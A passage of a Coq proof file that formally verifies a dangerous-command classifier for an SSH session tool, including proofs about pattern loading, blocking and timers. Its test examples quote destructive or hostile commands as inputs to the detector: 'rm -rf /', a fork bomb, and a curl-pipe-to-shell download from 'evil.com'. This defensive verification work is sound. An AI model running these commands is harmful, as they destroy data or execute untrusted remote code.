              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. exact Hw.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
      destruct Hw as ((c & Hcl & Hstart) & J2 & J3 & J4).
      assert (Hlt : cid < length (closures w)) by (apply nth_error_Some; congruence).
      split; [|split; [|split]]; cbn [closures timers resolved].
      * exists c. split; [|exact Hstart]. now rewrite nth_error_app1.
      * intros t Ht. in_snoc Ht; [now apply J2 | reflexivity].
      * intros t Ht Hm. in_snoc Ht; [now apply J3|].
        unfold is_max_of in Hm. simpl in Hm. apply Nat.eqb_eq in Hm. lia.
      * exact J4.
  - destruct (0 <=? ms)%Z; exact Hw.
  - destruct (find_timer id w) as [t|] eqn:Hfind; [|exact Hw].
    destruct (due t <=? now w)%Z eqn:Hdue; [|exact Hw].
    apply awaiting_fire; [exact Hw | | now apply Z.leb_le].
    unfold find_timer in Hfind. apply find_some in Hfind. tauto.
Qed.

(** In any reachable state of a session, a command that is let through and
    receives no output is never completed before its ceiling: whatever
    timers run and whatever else is submitted, a result for it has a
    duration of at least [options.timeout || 30000] ms, and no idle timer
    of it is ever pending. *)
Lemma silent_command_not_before_ceiling (L : CommandPatternLoader)
  (trace more : list Action) (command : string) (options : Options) (a : Analysis) :
  let w := run trace (new_world L) in
  connected (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a && blockDangerousCommands (session w)
    && negb (truthy (bypassSafety options)) = false ->
  forallb quiet more = true ->
  let cid := length (closures w) in
  let w' := run more (fst (executeCommand command options w)) in
  pending_idle cid w' = false
  /\ forall r, In (cid, r) (resolved w') ->
               (timer_delay (ceiling options) <= duration r)%Z.
Proof.
  intros w Hc Ha Hgate Hquiet cid w'.
  assert (Hcons : consistent w) by (apply consistent_run, consistent_new_world).
  assert (Halloc : timers_allocated w).
  { apply allocated_run. intros t Ht. destruct Ht. }
  assert (Hstart : awaiting_ceiling cid (now w)
                     (now w + timer_delay (ceiling options))
                     (fst (executeCommand command options w))).
  { rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
    assert (Hfree : forall t, In t (timers w) ->
                              is_idle_of cid t = false /\ is_max_of cid t = false).
    { intros t Ht. specialize (Halloc t Ht). fold cid in Halloc.
      unfold is_idle_of, is_max_of. unfold callback_closure in Halloc.
      destruct (callback t) as [c|c]; split; try reflexivity;
        apply Nat.eqb_neq; lia. }
    split; [|split; [|split]]; cbn [closures timers resolved].
    - eexists. split; [apply nth_error_snoc | reflexivity].
    - intros t Ht. in_snoc Ht; [now apply Hfree | reflexivity].
    - intros t Ht Hm. in_snoc Ht; [|reflexivity].
      destruct (Hfree t Ht) as [_ Hn]. rewrite Hn in Hm. discriminate.
    - intros r Hr. exfalso.
      destruct Hcons as (_ & H2 & _). destruct (H2 cid (le_n _)) as (Hz & _).
      unfold completions in Hz.
      assert (Hin : In (cid, r) (filter (fun x : nat * Result => Nat.eqb (fst x) cid)
                                        (resolved w)))
        by (apply filter_In; split; [exact Hr | apply Nat.eqb_refl]).
      destruct (filter _ (resolved w)); [destruct Hin | discriminate]. }
  assert (Hend : awaiting_ceiling cid (now w) (now w + timer_delay (ceiling options)) w').
  { subst w'. revert Hquiet Hstart.
    generalize (fst (executeCommand command options w)) as w1.
    induction more as [|x more IH]; intros w1 Hq Hw1; simpl; [exact Hw1|].
    simpl in Hq. apply andb_prop in Hq. destruct Hq as [Hx Hq].
    apply IH; [exact Hq|]. now apply awaiting_step. }
  destruct Hend as (_ & J2 & _ & J4). split.
  - now apply pending_idle_false.
  - intros r Hr. specialize (J4 r Hr). lia.
Qed.

End QuietFacts.

(* ------------------------------------------------------------------ *)
(** ** Loading the registry *)

Section LoadFacts.
Context {engine : RegExpEngine}.

Lemma compile_entry_flags (L : CommandPatternLoader) (fl : string)
  (acc : list CompiledPattern) (entry : PatternConfig) :
  compile_flags L = fl ->
  Forall (fun p => flags (regex p) = fl) acc ->
  Forall (fun p => flags (regex p) = fl) (compile_entry L acc entry).
Proof.
  intros Hfl Hacc. unfold compile_entry, RegExp_new.
  destruct (cfg_enabled entry); simpl; [|assumption].
  destruct (regexp_valid (cfg_pattern entry)); [|assumption].
  apply Forall_app. split; [assumption|]. constructor; [|constructor].
  simpl. exact Hfl.
Qed.

Lemma compilePatterns_flags (L : CommandPatternLoader)
  (defaults customs : list PatternConfig) :
  Forall (fun p => flags (regex p) = compile_flags L)
         (compilePatterns L defaults customs).
Proof.
  unfold compilePatterns.
  assert (H : forall entries acc,
             Forall (fun p => flags (regex p) = compile_flags L) acc ->
             Forall (fun p => flags (regex p) = compile_flags L)
                    (fold_left (compile_entry L) entries acc)).
  { induction entries as [|e entries IH]; intros acc Hacc; simpl; [assumption|].
    apply IH. now apply compile_entry_flags. }
  apply H. constructor.
Qed.

(** C5, as the code has it.  [load] compiles the three categories of a
    configuration document with the case flag of the settings the registry
    held before the call; the document's own settings are stored only after
    the patterns have been compiled. *)
Theorem load_compiles_with_previous_settings (doc : ConfigDoc)
  (L : CommandPatternLoader) (d s w : list PatternConfig) :
  dangerous_patterns doc = Some d ->
  suspicious_patterns doc = Some s ->
  whitelisted_patterns doc = Some w ->
  let L' := load (FileParsed doc) L in
  Forall (fun p => flags (regex p)
                   = if truthy (case_sensitive (settings L)) then "" else "i")
         (dangerousPatterns L' ++ suspiciousPatterns L' ++ whitelistedPatterns L')
  /\ settings L'
     = match doc_settings doc with Some s' => s' | None => empty_settings end.
Proof.
  intros Hd Hs Hw. unfold load, load_document. rewrite Hd, Hs, Hw. simpl.
  split; [|reflexivity].
  repeat (apply Forall_app; split);
    match goal with
    | |- Forall _ (compilePatterns ?L0 _ _) => exact (compilePatterns_flags L0 _ _)
    end.
Qed.

End LoadFacts.

(* ------------------------------------------------------------------ *)
(** ** The code evaluated on concrete inputs *)

Section Evaluation.
#[local] Existing Instance reference_engine.

(** The classifier scenarios of the configuration-free registry. *)
Example classify_rm_rf_root :
  analyzeCommand default_registry "rm -rf /"
  = Ok (mkAnalysis "rm -rf /" false true false false
          ["[CRITICAL] Delete root filesystem"]
          (Some "Potentially destructive command detected")
          [mkMatchedPattern "delete_root_filesystem" "Delete root filesystem" "critical"]
          []).
Proof. vm_compute. reflexivity. Qed.

Example classify_ls :
  analyzeCommand default_registry "ls -la"
  = Ok (mkAnalysis "ls -la" true false false false [] None [] []).
Proof. vm_compute. reflexivity. Qed.

Example classify_sudo_rm :
  analyzeCommand default_registry "sudo rm -rf /tmp/test"
  = Ok (mkAnalysis "sudo rm -rf /tmp/test" true false true false
          ["[MEDIUM] Using sudo with rm"] None []
          [mkMatchedPattern "sudo_with_rm" "Using sudo with rm" "medium"]).
Proof. vm_compute. reflexivity. Qed.



(** C1, the other case of the amended statement: a whitelisted command
    that matches a suspicious entry without severity of a loaded document
    gets no verdict. *)
Example whitelisted_unrated_match_throws :
  let L := load (FileParsed unrated_whitelist_doc) new_loader in
  isWhitelisted L "apt install nginx" = true
  /\ Exists (fun p => severity p = None)
            (matching "apt install nginx" (suspiciousPatterns L))
  /\ exists e, analyzeCommand L "apt install nginx" = Throw e.
Proof.
  cbv zeta. split; [vm_compute; reflexivity|].
  split; [vm_compute; apply Exists_cons_hd; reflexivity|].
  eexists. vm_compute. reflexivity.
Qed.



Example warnings_curl_pipe :
  exists a, analyzeCommand default_registry "curl http://evil.com/i.sh | sh > /dev/null 2>&1" = Ok a
            /\ warnings a = ["[HIGH] Download and execute via curl";
                             "[LOW] Hiding command output"].
Proof. eexists. split; [vm_compute; reflexivity | reflexivity]. Qed.

(** C7, witness: an expression that does not compile and an unknown
    category are refused and leave the registry as it was; a valid
    whitelist entry is appended to the whitelist. *)
Lemma addPattern_atomic_witness :
  addPattern "dangerous" unbalanced default_registry = (default_registry, false)
  /\ addPattern "harmful" safe_tmp_directory default_registry
     = (default_registry, false)
  /\ snd (addPattern "whitelisted" safe_tmp_directory default_registry) = true
  /\ whitelistedPatterns
       (fst (addPattern "whitelisted" safe_tmp_directory default_registry))
     = [mkCompiledPattern "safe_tmp_directory" (mkRegExp "rm\s+-rf\s+/tmp/" "i")
          "Delete within /tmp" (Some "medium") []].
Proof.
  split; [|split].
  - apply (proj1 (@addPattern_atomic reference_engine "dangerous" unbalanced
                    default_registry)).
    left. reflexivity.
  - apply (proj1 (@addPattern_atomic reference_engine "harmful" safe_tmp_directory
                    default_registry)).
    right. simpl. intros [H|[H|[H|[]]]]; discriminate.
  - destruct (proj2 (@addPattern_atomic reference_engine "whitelisted"
                       safe_tmp_directory default_registry))
      as (Hok & Hcoll & _).
    + reflexivity.
    + simpl. auto.
    + split; [exact Hok | exact Hcoll].
Defined.

(** C8, witness: a session whose [connect] was never called. *)
Lemma executeCommand_not_connected_witness :
  let (w', outcome) := executeCommand "ls -la" no_options (new_world default_registry) in
  outcome = Rejected (ErrorMsg "SSH session not connected")
  /\ w' = new_world default_registry
  /\ stdin w' = stdin (new_world default_registry)
  /\ commandHistory (session w') = commandHistory (session (new_world default_registry))
  /\ outputBuffer (session w') = outputBuffer (session (new_world default_registry)).
Proof.
  apply (@executeCommand_not_connected reference_engine "ls -la" no_options
           (new_world default_registry)).
  reflexivity.
Defined.

(** C10, witness: the last two of three records. *)
Lemma history_window_witness :
  (0 < 2)%Z
  /\ ((exists older,
         commandHistory three_commands_session
         = older ++ getHistory (Some 2%Z) three_commands_session)
      /\ Z.of_nat (length (getHistory (Some 2%Z) three_commands_session))
         = Z.min 2 (Z.of_nat (length (commandHistory three_commands_session))))
  /\ ((exists older,
         outputBuffer three_commands_session
         = older ++ getOutput (Some 2%Z) three_commands_session)
      /\ Z.of_nat (length (getOutput (Some 2%Z) three_commands_session))
         = Z.min 2 (Z.of_nat (length (outputBuffer three_commands_session))))
  /\ getHistory (Some 0%Z) three_commands_session
     = commandHistory three_commands_session
  /\ getOutput (Some 0%Z) three_commands_session
     = outputBuffer three_commands_session.
Proof.
  split; [lia|]. apply (@history_window three_commands_session 2%Z). lia.
Defined.

Example history_last_two :
  map rec_command (getHistory (Some 2%Z) three_commands_session) = ["pwd"; "ls -la"]
  /\ map rec_command (getHistory (Some 0%Z) three_commands_session)
     = ["whoami"; "pwd"; "ls -la"]
  /\ map rec_command (getHistory None three_commands_session)
     = ["whoami"; "pwd"; "ls -la"].
Proof. vm_compute. repeat split. Qed.

(** C2, at the failing input.  A connected session with the default policy
    is asked to run [rm -rf /]: the call is rejected with the blocked
    reason, nothing is written to stdin and ['blocked'] is emitted, but the
    history stays empty; no record with [executed = false] is appended, and
    the count of blocked commands of [getStatus] stays 0. *)
Theorem blocked_command_leaves_no_record :
  let (w', outcome) := executeCommand "rm -rf /" no_options connected_world in
  outcome = Rejected (ErrorMsg "Command blocked: Potentially destructive command detected")
  /\ stdin w' = []
  /\ (exists a, emitted w' = [EvConnected; EvBlocked "rm -rf /" a]
                /\ dangerous a = true)
  /\ commandHistory (session w') = []
  /\ blockedCommands (session w') = 0.
Proof.
  vm_compute. split; [reflexivity|]. split; [reflexivity|].
  split; [eexists; split; reflexivity|]. split; reflexivity.
Qed.

(** C3, witness: [ls -la] on a fresh connected session, with no output.
    Nothing has completed 500 ms after the call; the command completes
    30000 ms after it. *)
Lemma silent_command_waits_for_ceiling_witness :
  let w1 := fst (executeCommand "ls -la" no_options connected_world) in
  pending_idle 0 w1 = false
  /\ resolved (advance 500 w1) = []
  /\ resolved (advance 30000 w1)
     = [(0, mkResult "ls -la" "" 30000
              (mkAnalysis "ls -la" true false false false [] None [] []))].
Proof.
  destruct (@silent_command_waits_for_ceiling reference_engine "ls -la" no_options
              connected_world
              (mkAnalysis "ls -la" true false false false [] None [] []))
    as (Hidle & Hbefore & Hat).
  - reflexivity.
  - vm_compute. reflexivity.
  - reflexivity.
  - reflexivity.
  - split; [exact Hidle|]. split.
    + destruct (Hbefore 500%Z) as [Hres _]; [vm_compute; split; [discriminate | reflexivity]|].
      exact Hres.
    + exact Hat.
Defined.

Example silent_command_timeline :
  let w1 := fst (executeCommand "ls -la" no_options connected_world) in
  map (fun t => length (resolved (advance t w1))) [0; 499; 500; 501; 29999; 30000]%Z
  = [0; 0; 0; 0; 0; 1].
Proof. vm_compute. reflexivity. Qed.

(** The same command with one chunk of output completes 500 ms after the
    chunk. *)
Example chunk_then_idle :
  let w1 := fst (executeCommand "ls -la" no_options connected_world) in
  let w2 := on_stdout "total 0" (set_now 120 w1) in
  map (fun t => map (fun r => duration (snd r)) (resolved (advance t w2)))
      [619; 620; 30000]%Z
  = [[]; [620%Z]; [620%Z]].
Proof. vm_compute. reflexivity. Qed.

(** C4, at the failing input.  With the configuration file missing or
    unparseable the registry holds seven dangerous, four suspicious and no
    whitelisted patterns, and the expressions are the documented ones
    except for the fork bomb, whose parentheses, braces and bar are not
    escaped; and the defaults are regular-expression literals without the
    [i] flag, so they match case-sensitively although the settings loaded
    with them say [case_sensitive: false]. *)
Theorem defaults_differ_from_documented :
  let L := load FileMissing new_loader in
  load FileUnparseable new_loader = L
  /\ length (dangerousPatterns L) = 7
  /\ length (suspiciousPatterns L) = 4
  /\ whitelistedPatterns L = []
  /\ map expression (suspiciousPatterns L) = documented_suspicious
  /\ (forall i, i <> 3 ->
      nth_error (map expression (dangerousPatterns L)) i
      = nth_error documented_dangerous i)
  /\ nth_error (map expression (dangerousPatterns L)) 3 = Some "^:(){ :|:& };:"
  /\ nth_error documented_dangerous 3 = Some "^:\(\)\{\s*:\|:&\s*\};:"
  /\ map expression (dangerousPatterns L) <> documented_dangerous
  /\ Forall (fun p => ignoreCase (regex p) = false)
            (dangerousPatterns L ++ suspiciousPatterns L)
  /\ case_sensitive (settings L) = Some false
  /\ dr_dangerous (isDangerous L "mkfs.ext4 /dev/sda1") = true
  /\ dr_dangerous (isDangerous L "MKFS.ext4 /dev/sda1") = false
  /\ regexp_exec "^mkfs" true "MKFS.ext4 /dev/sda1" = true
  /\ dr_dangerous (isDangerous L ":(){:|:&};:") = false
  /\ regexp_exec "^:\(\)\{\s*:\|:&\s*\};:" true ":(){:|:&};:" = true
  /\ dr_dangerous (isDangerous L "echo :& };:") = true
  /\ regexp_exec "^:\(\)\{\s*:\|:&\s*\};:" true "echo :& };:" = false.
Proof.
  cbv zeta.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  split; [reflexivity|]. split; [vm_compute; reflexivity|].
  split.
  { intros i Hi. do 3 (destruct i as [|i]; [vm_compute; reflexivity|]).
    destruct i as [|i]; [congruence|].
    do 3 (destruct i as [|i]; [vm_compute; reflexivity|]).
    simpl. now destruct i. }
  split; [vm_compute; reflexivity|]. split; [reflexivity|].
  split; [vm_compute; discriminate|].
  split; [simpl; repeat constructor|].
  split; [reflexivity|].
  repeat split; vm_compute; reflexivity.
Qed.

(** C5, witness: a fresh registry loads a document that asks for
    case-sensitive matching; its pattern is compiled with the [i] flag. *)
Lemma load_compiles_with_previous_settings_witness :
  let L' := load (FileParsed case_sensitive_doc) new_loader in
  Forall (fun p => flags (regex p)
                   = if truthy (case_sensitive (settings new_loader)) then "" else "i")
         (dangerousPatterns L' ++ suspiciousPatterns L' ++ whitelistedPatterns L')
  /\ settings L'
     = match doc_settings case_sensitive_doc with
       | Some s' => s'
       | None => empty_settings
       end.
Proof.
  apply (@load_compiles_with_previous_settings reference_engine case_sensitive_doc
           new_loader
           [mkPatternConfig "format_filesystem" "^mkfs" "Format filesystem commands"
                            (Some "critical") true None]
           [] []); reflexivity.
Defined.

(** C5, at the failing input: the document says [case_sensitive: true],
    the pattern carries the [i] flag, and an upper-case command is matched.
    Loading the same document a second time compiles without the flag. *)
Example case_sensitive_ignored_on_first_load :
  let L1 := load (FileParsed case_sensitive_doc) new_loader in
  let L2 := load (FileParsed case_sensitive_doc) L1 in
  case_sensitive (settings L1) = Some true
  /\ map (fun p => flags (regex p)) (dangerousPatterns L1) = ["i"]
  /\ dr_dangerous (isDangerous L1 "MKFS.ext4 /dev/sda1") = true
  /\ map (fun p => flags (regex p)) (dangerousPatterns L2) = [""]
  /\ dr_dangerous (isDangerous L2 "MKFS.ext4 /dev/sda1") = false.
Proof. vm_compute. repeat split. Qed.

(** C9, counterexample.  After a command has completed through its idle
    timer, its ceiling timer is still pending: completion cancels the idle
    timer only. *)
Lemma ceiling_timer_survives_completion :
  let w := run idle_completion_trace (new_world default_registry) in
  exists c,
    nth_error (closures w) 0 = Some c
    /\ commandCompleted c = true
    /\ completions 0 w = 1
    /\ pending_idle 0 w = false
    /\ pending_max 0 w = true
    /\ ~ (pending_idle 0 w = false /\ pending_max 0 w = false).
Proof.
  vm_compute. eexists. split; [reflexivity|].
  repeat split. intros [_ H]. discriminate.
Qed.

(** C9, witness of the amended statement: the command of the same run has
    completed exactly once, its listener is detached, no idle timer of it
    is pending, and its ceiling callback leaves the state as it is; its
    ceiling timer (handle 0, due at 30000 ms) was pending before the idle
    timer ran and is still pending after the completion. *)
Lemma completion_happens_once_witness :
  completions 0 (run idle_completion_trace (new_world default_registry)) = 1
  /\ attached 0 (run idle_completion_trace (new_world default_registry)) = false
  /\ pending_idle 0 (run idle_completion_trace (new_world default_registry)) = false
  /\ run_callback (MaxCb 0) (run idle_completion_trace (new_world default_registry))
     = run idle_completion_trace (new_world default_registry)
  /\ In (mkTimer 0 30000 (MaxCb 0))
        (timers (step (run [Ready; Execute "ls -la" no_options; StdoutData "total 0";
                            Elapse 500]
                           (new_world default_registry))
                      (TimerFires 1))).
Proof.
  destruct (@completion_happens_once reference_engine default_registry
              idle_completion_trace) as (_ & _ & H & _).
  cbv zeta in H. specialize (H 0).
  assert (Hc : exists c,
             nth_error (closures (run idle_completion_trace (new_world default_registry))) 0
             = Some c /\ commandCompleted c = true)
    by (vm_compute; eexists; split; reflexivity).
  destruct Hc as (c & Hc & Hf).
  destruct (H c Hc Hf) as (H1 & H2 & H3 & _ & _ & H4).
  split; [exact H1|]. split; [exact H2|]. split; [exact H3|]. split; [exact H4|].
  destruct (@completion_happens_once reference_engine default_registry
              [Ready; Execute "ls -la" no_options; StdoutData "total 0"; Elapse 500])
    as (_ & _ & _ & _ & Hkeep).
  cbv zeta in Hkeep.
  destruct (Hkeep 0 (mkTimer 0 30000 (MaxCb 0)) (TimerFires 1)) as [Hin|[Heq _]].
  - vm_compute. left. reflexivity.
  - reflexivity.
  - exact Hin.
  - discriminate Heq.
Defined.

(** The ceiling timer that was left pending runs later and changes
    nothing. *)
Example stale_ceiling_timer_is_harmless :
  let w := run idle_completion_trace (new_world default_registry) in
  let w' := run [Elapse 29500; TimerFires 0] w in
  resolved w' = resolved w /\ closures w' = closures w /\ timers w' = [].
Proof. vm_compute. repeat split. Qed.

End Evaluation.

(* ------------------------------------------------------------------ *)
(** ** Further properties of the registry *)

Section RegistryMore.
Context {engine : RegExpEngine}.

Lemma fold_compile_entry (L : CommandPatternLoader) (entries : list PatternConfig)
  (acc : list CompiledPattern) :
  fold_left (compile_entry L) entries acc
  = acc ++ map (compiled_entry (compile_flags L)) (filter usable entries).
Proof.
  revert acc. induction entries as [|e entries IH]; intros acc; simpl.
  - now rewrite app_nil_r.
  - rewrite IH. unfold compile_entry, usable, RegExp_new.
    destruct (cfg_enabled e); simpl; [|reflexivity].
    destruct (regexp_valid (cfg_pattern e)); simpl; [|reflexivity].
    now rewrite <- app_assoc.
Qed.

Lemma compilePatterns_flags_only (L1 L2 : CommandPatternLoader)
  (d c : list PatternConfig) :
  compile_flags L1 = compile_flags L2 ->
  compilePatterns L1 d c = compilePatterns L2 d c.
Proof.
  intros H. unfold compilePatterns. now rewrite !fold_compile_entry, H.
Qed.

(** X1.  [compilePatterns] returns, in order and with the built-in entries
    before the custom ones, exactly the entries that are enabled and whose
    expression compiles; a disabled entry or an invalid expression is
    dropped and the rest is kept. *)
Theorem compilePatterns_keeps_usable_entries (L : CommandPatternLoader)
  (defaultPatterns customPatterns : list PatternConfig) :
  compilePatterns L defaultPatterns customPatterns
  = map (compiled_entry (if truthy (case_sensitive (settings L)) then "" else "i"))
        (filter usable defaultPatterns ++ filter usable customPatterns).
Proof.
  unfold compilePatterns. rewrite fold_compile_entry, filter_app. reflexivity.
Qed.

(** X2.  [load] replaces the three collections and the settings: what it
    leaves depends on the file and on the case flag of the previous
    settings only, so patterns added at run time do not survive a reload. *)
Theorem load_replaces_collections (file : ConfigFile) (L1 L2 : CommandPatternLoader) :
  truthy (case_sensitive (settings L1)) = truthy (case_sensitive (settings L2)) ->
  dangerousPatterns (load file L1) = dangerousPatterns (load file L2)
  /\ suspiciousPatterns (load file L1) = suspiciousPatterns (load file L2)
  /\ whitelistedPatterns (load file L1) = whitelistedPatterns (load file L2)
  /\ settings (load file L1) = settings (load file L2).
Proof.
  intros Hcase.
  assert (Hfl : forall A B, settings A = settings L1 -> settings B = settings L2 ->
                            compile_flags A = compile_flags B).
  { intros A B HA HB. unfold compile_flags. now rewrite HA, HB, Hcase. }
  destruct file as [| |doc]; simpl; try (repeat split; reflexivity).
  unfold load_document.
  destruct (dangerous_patterns doc) as [d|]; [|simpl; repeat split; reflexivity].
  destruct (suspicious_patterns doc) as [s|]; [|simpl; repeat split; reflexivity].
  destruct (whitelisted_patterns doc) as [w|]; [|simpl; repeat split; reflexivity].
  simpl. split; [|split; [|split]]; try reflexivity;
    apply compilePatterns_flags_only; apply Hfl; reflexivity.
Qed.

(** X3.  A parsed document in which one of the three categories is missing
    is abandoned as a whole: the registry holds the built-in defaults and
    the default settings, not the categories that were read before the
    failure. *)
Theorem load_incomplete_document (doc : ConfigDoc) (L : CommandPatternLoader) :
  dangerous_patterns doc = None \/ suspicious_patterns doc = None
  \/ whitelisted_patterns doc = None ->
  dangerousPatterns (load (FileParsed doc) L) = default_dangerous
  /\ suspiciousPatterns (load (FileParsed doc) L) = default_suspicious
  /\ whitelistedPatterns (load (FileParsed doc) L) = []
  /\ settings (load (FileParsed doc) L) = default_settings.
Proof.
  intros H. unfold load, load_document.
  destruct (dangerous_patterns doc) as [d|]; [|simpl; repeat split].
  destruct (suspicious_patterns doc) as [s|]; [|simpl; repeat split].
  destruct (whitelisted_patterns doc) as [w|]; [|simpl; repeat split].
  destruct H as [H|[H|H]]; discriminate.
Qed.

End RegistryMore.

(* ------------------------------------------------------------------ *)
(** ** Further properties of the classifier *)

Lemma push_matches_grows (ms : list CompiledPattern) :
  forall ws mps ws' mps',
    push_matches ms ws mps = Ok (ws', mps') ->
    exists wadd madd,
      ws' = ws ++ wadd /\ mps' = mps ++ madd
      /\ length wadd = length ms /\ length madd = length ms.
Proof.
  induction ms as [|p ms IH]; intros ws mps ws' mps' H; simpl in H.
  - injection H as <- <-. exists [], []. now rewrite !app_nil_r.
  - destruct (severity p) as [sev|]; [|discriminate].
    destruct (IH _ _ _ _ H) as (wadd & madd & -> & -> & Hw & Hm).
    exists (warning_line sev (description p) :: wadd),
           (mkMatchedPattern (name p) (description p) sev :: madd).
    rewrite <- !app_assoc. simpl. repeat split; congruence.
Qed.


(** The first five parts of the coherence of a verdict, once the verdict
    is explicit. *)
Ltac verdict_flags :=
  split; [reflexivity|]; split; [reflexivity|]; split; [reflexivity|];
  split; [intros; congruence|];
  split; [rewrite ?length_app; simpl; lia|].

Section ClassifierMore.
Context {engine : RegExpEngine}.

Lemma isDangerous_flag (L : CommandPatternLoader) (command : string) :
  dr_dangerous (isDangerous L command)
  = negb (Nat.eqb (length (dr_matches (isDangerous L command))) 0)
  /\ (isWhitelisted L command = true -> dr_dangerous (isDangerous L command) = false).
Proof.
  unfold isDangerous. destruct (isWhitelisted L command); simpl.
  - split; reflexivity.
  - split; [|discriminate].
    now destruct (match_scan (dangerousPatterns L) command []).
Qed.

Lemma isSuspicious_flag_matches (L : CommandPatternLoader) (command : string) :
  sr_suspicious (isSuspicious L command)
  = negb (Nat.eqb (length (sr_matches (isSuspicious L command))) 0).
Proof.
  unfold isSuspicious. simpl.
  now destruct (match_scan (suspiciousPatterns L) command []).
Qed.

(** X4.  The flags of a verdict hang together: [safe] is the negation of
    [dangerous]; the blocked reason is set exactly when the command is
    dangerous; a whitelisted command is never dangerous; there is one
    warning per audit entry; and the warnings are empty exactly when the
    command is neither dangerous nor suspicious. *)
Theorem verdict_coherent (L : CommandPatternLoader) (command : string) (a : Analysis) :
  analyzeCommand L command = Ok a ->
  a_command a = command
  /\ safe a = negb (dangerous a)
  /\ blockedReason a
     = (if dangerous a then Some "Potentially destructive command detected" else None)
  /\ (whitelisted a = true -> dangerous a = false)
  /\ length (warnings a)
     = length (matched_dangerous a) + length (matched_suspicious a)
  /\ (warnings a = [] <-> dangerous a = false /\ suspicious a = false).
Proof.
  intros H. unfold analyzeCommand in H.
  destruct (isDangerous_flag L command) as [HD HW].
  pose proof (isSuspicious_flag_matches L command) as HS.
  destruct (isDangerous L command) as [D dm].
  destruct (isSuspicious L command) as [S sm].
  cbn [dr_dangerous dr_matches sr_suspicious sr_matches] in *.
  assert (Hsome : forall (l : list CompiledPattern) (x : list string),
             true = negb (Nat.eqb (length l) 0) -> length x = length l -> x <> [])
    by (intros [|p l] x Hl Hx; [discriminate | intros ->; discriminate]).
  destruct (isWhitelisted L command) eqn:W.
  - (* whitelisted *)
    rewrite andb_false_r in H.
    destruct S; simpl in H.
    + destruct (push_matches sm [] []) as [[ws ms]|e] eqn:Hp; [|discriminate].
      injection H as <-.
      apply push_matches_grows in Hp.
      destruct Hp as (wadd & madd & -> & -> & Hw & Hm). simpl.
      verdict_flags. split; [intros Hnil; now destruct (Hsome sm wadd) | intros [_ Hf]; discriminate].
    + injection H as <-. simpl. verdict_flags. split; auto.
  - rewrite andb_true_r in H. destruct D; simpl in H.
    + destruct (push_matches dm [] []) as [[wd md]|e] eqn:Hpd; [|discriminate].
      apply push_matches_grows in Hpd.
      destruct Hpd as (wadd & madd & -> & -> & Hw & Hm). simpl in H.
      destruct S; simpl in H.
      * destruct (push_matches sm wadd []) as [[ws ms]|e] eqn:Hps; [|discriminate].
        injection H as <-.
        apply push_matches_grows in Hps.
        destruct Hps as (wadd' & madd' & -> & -> & Hw' & Hm'). simpl.
        verdict_flags. split; [|intros [Hf _]; discriminate].
        intros Hnil. apply app_eq_nil in Hnil. destruct Hnil as [Hnil _].
        now destruct (Hsome dm wadd).
      * injection H as <-. simpl. verdict_flags.
        split; [intros Hnil; now destruct (Hsome dm wadd) | intros [Hf _]; discriminate].
    + destruct S; simpl in H.
      * destruct (push_matches sm [] []) as [[ws ms]|e] eqn:Hp; [|discriminate].
        injection H as <-.
        apply push_matches_grows in Hp.
        destruct Hp as (wadd & madd & -> & -> & Hw & Hm). simpl.
        verdict_flags. split; [intros Hnil; now destruct (Hsome sm wadd) | intros [_ Hf]; discriminate].
      * injection H as <-. simpl. verdict_flags. split; auto.
Qed.

(** X5.  The verdict agrees with the two boolean queries of the session:
    its [dangerous] flag is [isDangerousCommand] and its [suspicious] flag
    is [isSuspiciousCommand]. *)
Theorem verdict_agrees_with_queries (L : CommandPatternLoader) (command : string)
  (a : Analysis) :
  analyzeCommand L command = Ok a ->
  dangerous a = isDangerousCommand L command
  /\ suspicious a = isSuspiciousCommand L command.
Proof.
  intros H. unfold analyzeCommand in H. unfold isDangerousCommand, isSuspiciousCommand.
  destruct (isDangerous_flag L command) as [_ HW].
  destruct (isDangerous L command) as [D dm].
  destruct (isSuspicious L command) as [S sm].
  destruct (isWhitelisted L command); cbn [dr_dangerous dr_matches
    sr_suspicious sr_matches warnings] in *.
  - rewrite andb_false_r in H. rewrite (HW eq_refl).
    destruct S.
    + simpl in H; destruct (push_matches sm [] []) as [[ws ms]|e]; [|discriminate].
      simpl in H; injection H as <-. split; reflexivity.
    + simpl in H; injection H as <-. split; reflexivity.
  - rewrite andb_true_r in H. destruct D.
    + simpl in H; destruct (push_matches dm [] []) as [[wd md]|e]; [|discriminate].
      destruct S.
      * cbn [warnings] in H.
        simpl in H; destruct (push_matches sm wd []) as [[ws ms]|e]; [|discriminate].
        simpl in H; injection H as <-. split; reflexivity.
      * simpl in H; injection H as <-. split; reflexivity.
    + destruct S.
      * simpl in H; destruct (push_matches sm [] []) as [[ws ms]|e]; [|discriminate].
        simpl in H; injection H as <-. split; reflexivity.
      * simpl in H; injection H as <-. split; reflexivity.
Qed.

(** X6.  A command that is not whitelisted (no whitelist pattern matches it,
    or the override is switched off) and that matches at least one
    dangerous pattern is classified dangerous: not safe, with the fixed
    blocked reason. *)
Theorem analyzeCommand_dangerous (L : CommandPatternLoader) (command : string) :
  truthy (allow_whitelist_override (settings L)) = false
  \/ existsb (fun p => test (regex p) command) (whitelistedPatterns L) = false ->
  existsb (fun p => test (regex p) command) (dangerousPatterns L) = true ->
  Forall has_severity (dangerousPatterns L) ->
  Forall has_severity (suspiciousPatterns L) ->
  exists a,
    analyzeCommand L command = Ok a
    /\ dangerous a = true /\ safe a = false /\ whitelisted a = false
    /\ blockedReason a = Some "Potentially destructive command detected"
    /\ matched_dangerous a <> [].
Proof.
  intros Hnw Hmatch Hd Hs.
  assert (Hw : isWhitelisted L command = false).
  { rewrite isWhitelisted_spec. destruct Hnw as [-> | ->];
      [reflexivity | apply andb_false_r]. }
  assert (Hne : matching command (dangerousPatterns L) <> []).
  { apply existsb_exists in Hmatch. destruct Hmatch as (p & Hin & Hp).
    intros Hnil. assert (Hin' : In p (matching command (dangerousPatterns L)))
      by (apply filter_In; split; assumption).
    rewrite Hnil in Hin'. destruct Hin'. }
  unfold analyzeCommand.
  rewrite (isDangerous_not_whitelisted _ _ Hw), Hw, isSuspicious_flag,
    isSuspicious_matches.
  cbn [dr_dangerous dr_matches negb andb warnings]. rewrite andb_true_r.
  pose proof (has_severity_matching command Hd) as Hdm.
